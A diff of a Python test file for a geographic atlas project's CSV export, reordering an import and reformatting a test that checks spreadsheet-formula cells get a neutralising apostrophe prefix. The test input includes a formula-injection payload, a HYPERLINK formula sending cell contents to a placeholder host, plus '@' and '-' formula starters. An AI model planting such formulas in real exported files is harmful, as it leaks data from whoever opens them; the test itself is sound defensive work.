@@ -6,9 +6,9 @@ import re
 
 import pytest
 
+from geo.alliance.filters import Filters
 from geo.atlas import load_atlas
 from geo.render.export import events_csv, events_geojson, standalone_map
-from geo.alliance.filters import Filters
 from geo.render.layers import inlined
 from geo.render.scene import base_map, scene
 from tests.conftest import ROOT
@@ -31,11 +31,18 @@ def test_csv_and_geojson_carry_the_filtered_events(atlas):
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_prefixed(atlas):
-    event = dataclasses.replace(atlas.events[0], title='=HYPERLINK("https://example.org/?x="&A1,"open")',
-                                summary="@SUM(A1) and more", category="-1+1")
+    event = dataclasses.replace(
+        atlas.events[0],
+        title='=HYPERLINK("https://example.org/?x="&A1,"open")',
+        summary="@SUM(A1) and more",
+        category="-1+1",
+    )
     [row] = csv.DictReader(io.StringIO(events_csv([event])))
     assert (row["title"], row["summary"], row["category"]) == (
-        '\'=HYPERLINK("https://example.org/?x="&A1,"open")', "'@SUM(A1) and more", "'-1+1")
+        '\'=HYPERLINK("https://example.org/?x="&A1,"open")',
+        "'@SUM(A1) and more",
+        "'-1+1",
+    )
     assert row["id"] == event.id and not row["lat"].startswith("'")
 
 
